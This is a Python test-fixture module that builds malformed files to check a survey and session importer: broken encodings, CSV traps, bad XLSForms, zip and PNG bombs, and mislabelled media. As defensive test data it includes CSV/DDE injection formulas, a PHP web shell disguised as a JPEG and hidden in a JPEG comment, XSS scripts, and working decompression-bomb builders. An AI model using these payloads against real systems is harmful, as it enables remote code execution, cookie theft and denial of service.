"""A corpus of malformed files, built in memory (or in a temporary file for the big one), never
committed: wrong encodings, broken CSV, spreadsheets with traps, zip bombs, broken XLSForms and
media files whose name lies about their content.

Each builder returns `Bad(name, filename, data)`; `place` is what the French answer must name
when the problem sits in one place of the file (a row, a column, a sheet), else "".
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from openpyxl import Workbook

MB = 1024 * 1024
SURVEY_HEADER = ["groupe", "aise_role_parent", "demarche_reussie"]
SESSION_HEADER = ["activite", "date", "duree", "habitants"]
VOLUNTEER_HEADER = ["date", "benevole", "heures"]


@dataclass(frozen=True)
class Bad:
    name: str
    filename: str
    data: bytes
    place: str = ""

    def __repr__(self):  # short ids in pytest's output
        return self.name


def csv_bytes(rows, *, sep=";", encoding="utf-8") -> bytes:
    return "\n".join(sep.join(str(c) for c in row) for row in rows).encode(encoding) + b"\n"


def xlsx_bytes(sheets: dict[str, list[list]], *, merge: dict[str, list[str]] | None = None):
    """A workbook with the given sheets (in order); `merge` lists ranges to merge per sheet."""
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
        for cells in (merge or {}).get(title, []):
            sheet.merge_cells(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- valid rows, for each importer ---------------------------------------------------------------


def survey_rows(n=3):
    return [SURVEY_HEADER] + [["habitant", str(1 + i % 5), "oui"] for i in range(n)]


def session_rows(n=3):
    return [SESSION_HEADER] + [
        ["Atelier corpus", f"{1 + i % 28:02}/01/2025", "2", "5"] for i in range(n)
    ]


def volunteer_rows(n=3):
    return [VOLUNTEER_HEADER] + [
        [f"{1 + i % 28:02}/01/2025", "Jeanne Corpus", "3"] for i in range(n)
    ]


ROWS = {"survey": survey_rows, "sessions": session_rows, "volunteering": volunteer_rows}


# --- text files: encodings, separators, quotes, NUL, sizes ---------------------------------------


def encodings(kind: str) -> list[Bad]:
    rows = ROWS[kind]()
    text = "\n".join(";".join(r) for r in rows) + "\n"
    utf8 = text.encode()
    return [
        Bad("utf16-le-no-bom", "f.csv", text.encode("utf-16-le")),
        # a UTF-8 BOM followed by Windows-1252 bytes (a file « converted » by hand)
        Bad(
            "utf8-bom-then-cp1252",
            "f.csv",
            b"\xef\xbb\xbf" + (text + "é;\n").encode("cp1252"),
            "ligne",
        ),
        # UTF-8 with one Latin-1 byte in row 3: decoding all as Windows-1252 would garble the rest
        Bad(
            "utf8-with-one-latin1-byte",
            "f.csv",
            utf8.replace(b"\n", "\nRéponse;é\n".encode(), 1).replace(b"oui", b"\xe9t\xe9", 1),
            "ligne",
        ),
        Bad("invalid-utf8-bytes-only", "f.csv", b"\xff\xfe\xfd\xfc;\x80\x81\n\xc0\xc1;\xf5\n"),
    ]


def readable_encodings(kind: str) -> list[Bad]:
    """Odd but honest encodings: read as they are (Excel's « Texte Unicode » is UTF-16)."""
    rows = ROWS[kind]()
    text = "\n".join(";".join(r) for r in rows) + "\n"
    tabs = "\n".join("\t".join(r) for r in rows) + "\n"
    return [
        Bad("utf16-bom-tabs", "f.txt", tabs.encode("utf-16")),
        Bad("utf16-be-bom", "f.csv", codecs.BOM_UTF16_BE + text.encode("utf-16-be")),
        Bad("utf32-bom", "f.csv", text.encode("utf-32")),
        Bad("utf8-bom-crlf", "f.csv", codecs.BOM_UTF8 + text.replace("\n", "\r\n").encode()),
        Bad("cp1252-commas", "f.csv", text.replace(";", ",").encode("cp1252")),
        Bad(
            "latin1-blank-lines-and-spaces",
            "f.csv",
            ("\n\n" + text.replace(";", " ; ").replace("\n", "\n\n")).encode("latin-1"),
        ),
    ]


def separators_and_quotes(kind: str) -> list[Bad]:
    header, *rows = ROWS[kind]()
    return [
        # header with ; rows with , — the cells cannot be matched to their columns
        Bad(
            "mixed-separators",
            "f.csv",
            (";".join(header) + "\n" + "\n".join(",".join(r) for r in rows) + "\n").encode(),
            "ligne",
        ),
        # one row typed with tabs in the middle of a ; file
        Bad(
            "one-row-with-tabs",
            "f.csv",
            (
                ";".join(header)
                + "\n"
                + ";".join(rows[0])
                + "\n"
                + "\t".join(rows[1])
                + "\n"
                + ";".join(rows[2])
                + "\n"
            ).encode(),
            "ligne",
        ),
        # a quote opened in row 2 and never closed: the rest of the file would become one cell
        Bad(
            "unbalanced-quote",
            "f.csv",
            (
                ";".join(header)
                + "\n"
                + ";".join(rows[0])
                + ';"\n'
                + ";".join(rows[1])
                + "\n"
                + ";".join(rows[2])
                + "\n"
            ).encode(),
            "ligne 2",
        ),
        # an unquoted separator inside a text shifts the following cells to the right
        Bad(
            "extra-cells",
            "f.csv",
            (";".join(header) + "\n" + ";".join(rows[0]) + ";en trop;encore\n").encode(),
            "ligne 2",
        ),
        Bad(
            "nul-bytes-late",
            "f.csv",
            csv_bytes([header, *rows * 400]) + (";".join(rows[0]) + "\x00;x\n").encode(),
            "ligne 1202",
        ),
        Bad("nul-bytes-start", "f.csv", b"\x00\x00\x00" + csv_bytes([header, *rows])),
    ]


def shapes(kind: str) -> list[Bad]:
    header, *rows = ROWS[kind]()
    return [
        Bad("empty", "f.csv", b""),
        Bad("blank-lines-only", "f.csv", b"\n\n  \n;;;\n\r\n"),
        Bad("header-only", "f.csv", csv_bytes([header])),
        Bad("header-only-xlsx", "f.xlsx", xlsx_bytes({"Feuil1": [header]})),
        Bad("empty-workbook", "f.xlsx", xlsx_bytes({"Feuil1": []})),
        Bad("empty-first-sheet", "f.xlsx", xlsx_bytes({"Vide": [], "Données": [header, *rows]})),
        Bad(
            "one-mb-cell",
            "f.csv",
            csv_bytes([header, rows[0], [rows[1][0], "x" * MB, *rows[1][2:]]]),
            "ligne 3",
        ),
        Bad(
            "huge-cell-xlsx",
            "f.xlsx",
            xlsx_bytes({"Feuil1": [header, rows[0], [rows[1][0], "x" * MB, *rows[1][2:]]]}),
            "ligne 3",
        ),
    ]


def spreadsheet_traps(kind: str) -> list[Bad]:
    header, *rows = ROWS[kind]()
    merged = [header, *rows, [rows[0][0], "", ""] + rows[0][3:]]
    return [
        # the last row's first cells merged with the row above: the merged cells read as empty
        Bad(
            "merged-cells",
            "f.xlsx",
            xlsx_bytes({"Feuil1": merged}, merge={"Feuil1": ["B4:B5", "C4:C5"]}),
            "ligne 5",
        ),
        # formulas written without a computed value (as scripts write them): read as empty
        Bad(
            "formulas-without-values",
            "f.xlsx",
            xlsx_bytes({"Feuil1": [header, *rows[:2], [rows[2][0], "=1+1", "=A2"] + rows[2][3:]]}),
            "ligne 4",
        ),
    ]


def formulas(kind: str) -> list[Bad]:
    """Cells that a spreadsheet would run as formulas (CSV injection, DDE). As answers to text
    questions they are plain text; they must never come back out of an export as formulas."""
    header, *rows = ROWS[kind]()
    payloads = [
        '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C notepad'!'A1'",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    return [
        Bad(
            "formula-" + str(i),
            "f.csv",
            csv_bytes([header, [payload, *rows[0][1:]]], sep="\t"),
            "ligne 2",
        )
        for i, payload in enumerate(payloads)
    ]


def big_csv(kind: str, path: Path, size: int = 50 * MB, comment: int = 0) -> Path:
    """A valid file of about `size` bytes, written to disk by chunks (never held in memory).
    `comment` adds a free-text column of that many characters to each row (a long answer that
    no question takes): with 280, 50 Mo hold about 170,000 rows, under the import's limit."""
    header, *rows = ROWS[kind](28)
    if comment:
        header = [*header, "commentaire"]
        rows = [[*row, ("Très bien, merci. " * (comment // 18 + 1))[:comment]] for row in rows]
    block = csv_bytes(rows)
    with path.open("wb") as handle:
        handle.write(csv_bytes([header]))
        written = 0
        while written < size:
            handle.write(block)
            written += len(block)
    return path


# --- zip containers: not a zip, truncated, bombs -------------------------------------------------


def tiny_png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def tiny_jpeg(comment: bytes = b"") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (30, 120, 200)).save(buffer, format="JPEG", comment=comment)
    return buffer.getvalue()


@cache
def xlsx_bomb(unzipped: int = 256 * MB) -> bytes:
    """A real XLSX whose first sheet holds one cell of `unzipped` bytes of « a »: about 1,000 times
    smaller zipped (256 Mo → about 250 Ko)."""
    good = xlsx_bytes({"Feuil1": [["groupe"], ["habitant"]]})
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info.filename, source.read(info.filename))
                continue
            with bomb.open(info.filename, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"'
                    b' t="inlineStr"><is><t>'
                )
                chunk = b"a" * MB
                for _n in range(unzipped // MB):
                    sheet.write(chunk)
                sheet.write(b"</t></is></c></row></sheetData></worksheet>")
    return out.getvalue()


def declared_bomb() -> bytes:
    """A small valid workbook whose central directory says its sheet unzips to almost 4 Go."""
    data = bytearray(xlsx_bytes({"Feuil1": [["groupe"], ["habitant"]]}))
    name = b"xl/worksheets/sheet1.xml"
    start = data.rfind(b"PK\x01\x02", 0, data.rfind(name))  # its central directory entry
    struct.pack_into("<I", data, start + 24, 0xFFFF_FF00)
    return bytes(data)


def zip_traps(kind: str) -> list[Bad]:
    good = xlsx_bytes({"Feuil1": ROWS[kind]()})
    return [
        Bad("png-named-xlsx", "f.xlsx", tiny_png()),
        Bad("text-named-xlsx", "f.xlsx", b"ceci n'est pas un classeur\n"),
        Bad("truncated-xlsx", "f.xlsx", good[: len(good) // 2]),
        Bad("zip-without-workbook", "f.xlsx", _zip({"bonjour.txt": b"bonjour"})),
        Bad("xlsx-bomb", "f.xlsx", xlsx_bomb()),
        Bad("xlsx-declared-bomb", "f.xlsx", declared_bomb()),
        Bad("xlsx-bomb-named-csv", "f.csv", xlsx_bomb()),
    ]


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def tabular(kind: str) -> list[Bad]:
    """Every malformed table for one importer (« survey », « sessions », « volunteering »)."""
    return [
        *encodings(kind),
        *separators_and_quotes(kind),
        *shapes(kind),
        *spreadsheet_traps(kind),
        *zip_traps(kind),
    ]


# --- XLSForms ------------------------------------------------------------------------------------

XLSFORM_SURVEY = ["type", "name", "label", "relevant", "constraint"]


def xlsform(survey_rows_, choices=None, *, sheet="survey") -> bytes:
    sheets = {sheet: [XLSFORM_SURVEY, *survey_rows_]}
    if choices is not None:
        sheets["choices"] = [["list_name", "name", "label"], *choices]
    return xlsx_bytes(sheets)


GOOD_CHOICES = [["oui_non", "oui", "Oui"], ["oui_non", "non", "Non"]]


def broken_xlsforms() -> list[Bad]:
    ok_question = ["select_one oui_non", "aide", "Le centre vous a aidé ?"]
    return [
        Bad(
            "xlsform-missing-survey-sheet",
            "q.xlsx",
            xlsx_bytes({"choices": [["list_name", "name", "label"], *GOOD_CHOICES]}),
            "survey",
        ),
        Bad("xlsform-empty-survey-sheet", "q.xlsx", xlsform([], GOOD_CHOICES), "survey"),
        Bad(
            "xlsform-duplicate-names",
            "q.xlsx",
            xlsform([["text", "nom", "Nom"], ["integer", "nom", "Âge"]]),
            "nom",
        ),
        Bad(
            "xlsform-choices-list-missing",
            "q.xlsx",
            xlsform([["select_one frequence", "freq", "Fréquence ?"]], GOOD_CHOICES),
            "frequence",
        ),
        Bad("xlsform-no-choices-sheet", "q.xlsx", xlsform([ok_question]), "choices"),
        Bad("xlsform-bad-name", "q.xlsx", xlsform([["text", "mon nom?", "Nom"]]), "ligne 2"),
        Bad(
            "xlsform-unclosed-group",
            "q.xlsx",
            xlsform([["begin_group", "g1", "Partie"], ["text", "nom", "Nom"]]),
            "g1",
        ),
        Bad(
            "xlsform-unknown-relevant-target",
            "q.xlsx",
            xlsform([["text", "nom", "Nom", "${inconnu} = 'x'"]]),
            "inconnu",
        ),
        Bad("xlsform-png", "q.xlsx", tiny_png()),
        Bad("xlsform-text", "q.xlsx", b"type;name;label\ntext;nom;Nom\n"),
        Bad("xlsform-truncated", "q.xlsx", xlsform([["text", "nom", "Nom"]])[:700]),
        Bad("xlsform-empty", "q.xlsx", b""),
        Bad("xlsform-bomb", "q.xlsx", xlsx_bomb()),
        Bad("xlsform-declared-bomb", "q.xlsx", declared_bomb()),
    ]


def odd_but_importable_xlsforms() -> list[Bad]:
    """Forms pyxform reads but Maillage cannot show as written: imported, with what is left out
    listed in the report (never silently dropped)."""
    return [
        # a type Maillage does not have: the other questions are imported
        Bad(
            "xlsform-unknown-type",
            "q.xlsx",
            xlsform([["text", "nom", "Nom"], ["couleur_preferee", "couleur", "Couleur ?"]]),
            "couleur",
        ),
        # a cycle of conditions: the later question's condition on an earlier one is kept
        Bad(
            "xlsform-cyclic-relevant",
            "q.xlsx",
            xlsform(
                [
                    ["select_one oui_non", "a", "A ?", "${b} = 'oui'"],
                    ["select_one oui_non", "b", "B ?", "${a} = 'oui'"],
                ],
                GOOD_CHOICES,
            ),
            "a",
        ),
        Bad(
            "xlsform-self-relevant",
            "q.xlsx",
            xlsform([["select_one oui_non", "a", "A ?", "${a} = 'oui'"]], GOOD_CHOICES),
            "a",
        ),
        Bad(
            "xlsform-bad-constraint",
            "q.xlsx",
            xlsform([["integer", "age", "Âge ?", "", ". >>= 0 and ("]]),
            "age",
        ),
        Bad("xlsform-huge-label", "q.xlsx", xlsform([["text", "nom", "N" * 100_000]])),
    ]


# --- media files ---------------------------------------------------------------------------------


def png_bomb(width=100_000, height=100_000) -> bytes:
    """A PNG header announcing width × height pixels (10 billion), with a tiny body."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def lying_media() -> list[Bad]:
    jpeg = tiny_jpeg()
    return [
        Bad("php-named-jpg", "photo.jpg", b"<?php system($_GET['c']); ?>\n"),
        Bad("html-named-jpg", "photo.jpg", b"<html><body><script>alert(document.cookie)</script>"),
        Bad(
            "svg-with-script-named-jpg",
            "photo.jpg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ),
        Bad(
            "svg-with-script",
            "image.svg",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
        Bad("exe-named-mp4", "film.mp4", b"MZ\x90\x00\x03" + b"\x00" * 200),
        Bad("pdf-named-png", "photo.png", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),
        Bad("truncated-jpeg", "photo.jpg", jpeg[: len(jpeg) // 2]),
        Bad("jpeg-header-only", "photo.jpg", jpeg[:20]),
        Bad("png-pixel-bomb", "photo.png", png_bomb()),
        Bad("png-just-over-the-limit", "photo.png", png_bomb(8000, 5001)),
    ]


def polyglot_jpeg() -> bytes:
    """A real JPEG carrying a PHP script in its comment: accepted as a photo, but the stored file
    must be re-encoded without it."""
    return tiny_jpeg(comment=b"<?php system($_GET['c']); ?>")
